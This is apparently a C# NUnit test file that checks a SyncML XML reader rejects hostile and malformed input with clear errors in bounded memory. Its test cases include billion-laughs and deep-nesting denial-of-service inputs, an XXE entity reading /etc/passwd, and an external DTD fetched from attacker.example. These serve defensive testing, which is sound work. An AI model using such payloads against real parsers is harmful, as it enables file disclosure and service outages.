using System.Text;

namespace DeviceAgent.SyncML.Tests;

/// <summary>Hostile and broken input: each case must end in a <see cref="SyncMLFormatException"/> with a useful reason.</summary>
public class HostileInputTests
{
    private const string Body = "<SyncBody><Get><CmdID>1</CmdID><Item><Target><LocURI>./DevInfo/DevId</LocURI></Target></Item></Get><Final/></SyncBody>";

    private static byte[] U(string s) => Encoding.UTF8.GetBytes(s);

    private static byte[] Message(string bodyContent) =>
        U($"<SyncML xmlns=\"SYNCML:SYNCML1.2\"><SyncHdr><VerDTD>1.2</VerDTD></SyncHdr><SyncBody>{bodyContent}</SyncBody></SyncML>");

    private static byte[] Concat(params byte[][] parts) => parts.SelectMany(p => p).ToArray();

    private static string Repeat(string s, int n) => new StringBuilder(s.Length * n).Insert(0, s, n).ToString();

    private static TestCaseData Case(string name, Func<byte[]> input, string reason) =>
        new TestCaseData(input, reason).SetName("Hostile_" + name);

    private static IEnumerable<TestCaseData> Cases()
    {
        yield return Case("billion_laughs", () => U(
            "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">" +
            string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY lol{i} \"{Repeat($"&lol{i - 1};", 10).Replace("&lol0;", "&lol;", StringComparison.Ordinal)}\">")) +
            "]><SyncML><SyncBody><Alert><CmdID>1</CmdID><Data>&lol9;</Data></Alert></SyncBody></SyncML>"), "undefined entity &lol9;");
        yield return Case("external_entity", () => U(
            "<!DOCTYPE SyncML [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><SyncML><SyncBody><Alert><CmdID>1</CmdID><Data>&xxe;</Data></Alert></SyncBody></SyncML>"),
            "undefined entity &xxe;");
        yield return Case("parameter_entity_external_dtd", () => U(
            "<!DOCTYPE SyncML SYSTEM \"http://attacker.example/x.dtd\" [<!ENTITY % p SYSTEM \"http://attacker.example/p\"> %p;]><SyncML><SyncBody><Final/><Bogus>&ent;</Bogus></SyncBody></SyncML>"),
            "undefined entity &ent;");
        yield return Case("nesting_100000_atomic", () => Message(Repeat("<Atomic>", 100_000) + Repeat("</Atomic>", 100_000)), "nested more than 64 deep");
        yield return Case("nesting_100000_in_data", () => Message("<Add><Item><Data>" + Repeat("<a>", 100_000) + Repeat("</a>", 100_000) + "</Data></Item></Add>"), "nested more than 64 deep");
        yield return Case("nesting_100000_unclosed", () => U(Repeat("<SyncML>", 100_000)), "nested more than 64 deep");
        yield return Case("data_50_MB", () => Concat(U("<SyncML><SyncBody><Add><Item><Data>"), new byte[50 * 1024 * 1024].Select(_ => (byte)'A').ToArray(), U("</Data></Item></Add></SyncBody></SyncML>")), "MaxMessageBytes");
        yield return Case("too_many_elements", () => Message("<Add><Item><Data>" + Repeat("<x/>", 200_001) + "</Data></Item></Add>"), "more than 200000 elements");
        yield return Case("invalid_utf8_lone_continuation", () => Concat(Message("<Alert><CmdID>1</CmdID><Data>"), [0x80], U("</Data></Alert>")), "not valid UTF-8");
        yield return Case("invalid_utf8_overlong", () => Concat(U("<SyncML><SyncBody>"), [0xC0, 0xAF], U("</SyncBody></SyncML>")), "not valid UTF-8");
        yield return Case("invalid_utf8_truncated_sequence", () => Concat(U("<SyncML><SyncBody></SyncBody></SyncML>"), [0xE2, 0x82]), "not valid UTF-8");
        yield return Case("invalid_utf8_encoded_surrogate", () => Concat(U("<SyncML><SyncBody>"), [0xED, 0xA0, 0x80], U("</SyncBody></SyncML>")), "not valid UTF-8");
        yield return Case("utf16_bom", () => Concat([0xFF, 0xFE], Encoding.Unicode.GetBytes("<SyncML/>")), "UTF-16");
        yield return Case("control_character", () => Message("<Alert><CmdID>1\u0001</CmdID></Alert>"), "control character U+0001");
        yield return Case("unterminated_cdata", () => Message("<Add><Item><Data><![CDATA[abc</Data></Item></Add>"), "unterminated CDATA section");
        yield return Case("mismatched_tags", () => Message("<Add><Item></Add></Item>"), "end tag </Add> does not match <Item>");
        yield return Case("two_roots", () => Concat(Message(""), U("<SyncML><SyncBody/></SyncML>")), "a second root element <SyncML>");
        yield return Case("undefined_entity", () => Message("<Alert><CmdID>1</CmdID><Data>&nbsp;</Data></Alert>"), "undefined entity &nbsp;");
        yield return Case("lone_surrogate_reference", () => Message("<Alert><CmdID>1</CmdID><Data>&#xD800;</Data></Alert>"), "not a legal XML character");
        yield return Case("nul_reference", () => Message("<Alert><CmdID>&#0;</CmdID></Alert>"), "not a legal XML character");
        yield return Case("reference_beyond_unicode", () => Message("<Alert><CmdID>&#x110000;</CmdID></Alert>"), "not a legal XML character");
        yield return Case("reference_without_digits", () => Message("<Alert><CmdID>&#;</CmdID></Alert>"), "malformed character reference");
        yield return Case("bare_ampersand", () => Message("<Alert><CmdID>1</CmdID><Data>a & b</Data></Alert>"), "write &amp; for a literal '&'");
        yield return Case("unterminated_comment", () => U("<SyncML><SyncBody><!-- never closed </SyncBody></SyncML>"), "unterminated comment");
        yield return Case("double_dash_in_comment", () => Message("<!-- a -- b -->"), "'--' is not allowed inside a comment");
        yield return Case("unterminated_processing_instruction", () => U("<SyncML><SyncBody><?pi never closed </SyncBody></SyncML>"), "unterminated processing instruction");
        yield return Case("late_xml_declaration", () => U("<!-- c --><?xml version=\"1.0\"?><SyncML><SyncBody/></SyncML>"), "only allowed at the start");
        yield return Case("unterminated_doctype", () => U("<!DOCTYPE SyncML [ <!ENTITY a \"b\"> "), "unterminated DOCTYPE");
        yield return Case("doctype_after_root", () => U("<SyncML><SyncBody/></SyncML><!DOCTYPE x>"), "DOCTYPE is only allowed before the root");
        yield return Case("unquoted_attribute", () => U("<SyncML xmlns=SYNCML:SYNCML1.2><SyncBody/></SyncML>"), "must be in quotes");
        yield return Case("duplicate_attribute", () => U("<SyncML a=\"1\" a=\"2\"><SyncBody/></SyncML>"), "duplicate attribute 'a'");
        yield return Case("lt_in_attribute", () => U("<SyncML a=\"<\"><SyncBody/></SyncML>"), "'<' is not allowed in an attribute value");
        yield return Case("unterminated_attribute", () => U("<SyncML a=\"1><SyncBody/></SyncML>"), "unterminated value of attribute 'a'");
        yield return Case("too_many_attributes", () => U("<SyncML " + string.Join(' ', Enumerable.Range(0, 40).Select(i => $"a{i}=\"\"")) + "><SyncBody/></SyncML>"), "more than 32 attributes");
        yield return Case("empty_input", () => [], "no root element");
        yield return Case("white_space_only", () => U(" \r\n\t "), "no root element");
        yield return Case("text_before_root", () => U("hello <SyncML><SyncBody/></SyncML>"), "text is not allowed outside the root element");
        yield return Case("text_in_syncbody", () => Message("stray text"), "text is not allowed directly inside <SyncBody>");
        yield return Case("cdata_in_syncbody", () => Message("<![CDATA[x]]>"), "CDATA is not allowed directly inside <SyncBody>");
        yield return Case("element_in_cmdid", () => Message("<Alert><CmdID><b>1</b></CmdID></Alert>"), "element <b> is not allowed inside <CmdID>");
        yield return Case("wrong_root_namespace", () => U("<SyncML xmlns=\"http://example.com/\"><SyncBody/></SyncML>"), "expected SYNCML:SYNCML1.2");
        yield return Case("undeclared_prefix", () => Message("<Add><Meta><A:Format>int</A:Format></Meta></Add>"), "namespace prefix 'A' is not declared");
        yield return Case("undeclared_attribute_prefix", () => Message("<Add><Item><Data msft:originalerror=\"0x1\">1</Data></Item></Add>"), "namespace prefix 'msft' is not declared on this attribute");
        yield return Case("xmlns_prefix_on_element", () => Message("<xmlns:Add/>"), "the prefix 'xmlns' is reserved");
        yield return Case("two_colons_in_name", () => Message("<a:b:c/>"), "at most one ':'");
        yield return Case("missing_syncbody", () => U("<SyncML><SyncHdr><VerDTD>1.2</VerDTD></SyncHdr></SyncML>"), "<SyncML> has no <SyncBody>");
        yield return Case("empty_end_tag", () => U("<SyncML><SyncBody></></SyncML>"), "expected the end tag </SyncBody>");
        yield return Case("space_after_lt", () => Message("< Add/>"), "expected an element name after '<'");
        yield return Case("unknown_top_level_element", () => U("<Foo><CmdID>1</CmdID></Foo>"), "not a SyncML message, SyncBody or command");
        yield return Case("truncated_inside_start_tag", () => U("<SyncML xmlns=\"SYNCML:SYNCML1.2\""), "the input ends inside the start tag");
        yield return Case("noncharacter_FFFF", () => Message("<Alert><CmdID>\uFFFF</CmdID></Alert>"), "U+FFFE or U+FFFF");
    }

    [TestCaseSource(nameof(Cases))]
    public void Hostile_input_gives_a_clear_error_in_bounded_memory(Func<byte[]> input, string reason)
    {
        byte[] bytes = input();
        long before = GC.GetAllocatedBytesForCurrentThread();
        var error = Assert.Throws<SyncMLFormatException>(() => SyncMLReader.ReadFragment(bytes));
        long allocated = GC.GetAllocatedBytesForCurrentThread() - before;

        Assert.That(error!.Reason, Does.Contain(reason));
        Assert.That(error.Line, Is.GreaterThanOrEqualTo(1));
        Assert.That(error.Column, Is.GreaterThanOrEqualTo(1));
        Assert.That(error.Message, Does.StartWith($"{error.Line}:{error.Column} "));
        // The reader never holds more than a small multiple of its input (no entity expansion, no deep structures).
        Assert.That(allocated, Is.LessThan(2L * Math.Min(bytes.Length, SyncMLReaderOptions.Default.MaxMessageBytes) + 1_000_000));
    }

    [Test]
    public void ReadMessage_rejects_a_bare_SyncBody()
    {
        var error = Assert.Throws<SyncMLFormatException>(() => SyncMLReader.ReadMessage(U(Body)));
        Assert.That(error!.Reason, Does.Contain("expected <SyncML> as the root element but found <SyncBody>"));
    }

    [Test]
    public void Truncation_at_every_element_boundary_of_a_real_message_fails_clearly()
    {
        byte[] full = Corpus.Read("project/device_checkin_cred_md5_locname_synchdr_status500.xml");
        int rootEnd = full.AsSpan().LastIndexOf("</SyncML>"u8);
        int truncations = 0;
        for (int i = 0; i < rootEnd; i++)
        {
            if (full[i] != (byte)'<') continue;
            truncations++;
            byte[] cut = full[..i];
            var error = Assert.Throws<SyncMLFormatException>(() => SyncMLReader.ReadFragment(cut), $"truncated at byte {i}");
            Assert.That(error!.Reason, Does.Contain("ends inside").Or.Contain("no root element"), $"truncated at byte {i}");
        }

        Assert.That(truncations, Is.GreaterThan(50));
    }

    [Test]
    public void Error_positions_are_line_and_character_column()
    {
        byte[] input = U("<SyncML>\n  <SyncBody>\n    <Alert><CmdID>é&bad;</CmdID></Alert>\n  </SyncBody>\n</SyncML>");
        var error = Assert.Throws<SyncMLFormatException>(() => SyncMLReader.ReadMessage(input));
        Assert.That((error!.Line, error.Column), Is.EqualTo((3, 20)), "the '&' is the 20th character of line 3");
    }

    [Test]
    public void Limits_are_configurable()
    {
        byte[] nested = Message("<Atomic><Atomic><Atomic></Atomic></Atomic></Atomic>");
        Assert.That(SyncMLReader.ReadMessage(nested).SyncBody.Commands, Has.Count.EqualTo(1));
        var shallow = new SyncMLReaderOptions { MaxDepth = 4 };
        Assert.That(() => SyncMLReader.ReadMessage(nested, shallow), Throws.TypeOf<SyncMLFormatException>().With.Property("Reason").Contains("MaxDepth"));
        var small = new SyncMLReaderOptions { MaxMessageBytes = 10 };
        Assert.That(() => SyncMLReader.ReadMessage(nested, small), Throws.TypeOf<SyncMLFormatException>().With.Property("Reason").Contains("MaxMessageBytes"));
        var few = new SyncMLReaderOptions { MaxElements = 5 };
        Assert.That(() => SyncMLReader.ReadMessage(nested, few), Throws.TypeOf<SyncMLFormatException>().With.Property("Reason").Contains("MaxElements"));
        Assert.That(() => SyncMLReader.ReadMessage(nested, new SyncMLReaderOptions { MaxDepth = 0 }), Throws.TypeOf<ArgumentOutOfRangeException>());
    }

    [Test]
    public void A_deep_but_allowed_document_does_not_recurse()
    {
        var deep = new SyncMLReaderOptions { MaxDepth = 200_000, MaxElements = 300_000 };
        SyncMLMessage m = SyncMLReader.ReadMessage(Message(Repeat("<Sequence>", 100_000) + Repeat("</Sequence>", 100_000)), deep);
        int depth = 0;
        for (SyncMLCommand c = m.SyncBody.Commands[0]; c is ContainerCommand container && container.Commands.Count > 0; c = container.Commands[0]) depth++;
        Assert.That(depth, Is.EqualTo(99_999));
    }
}
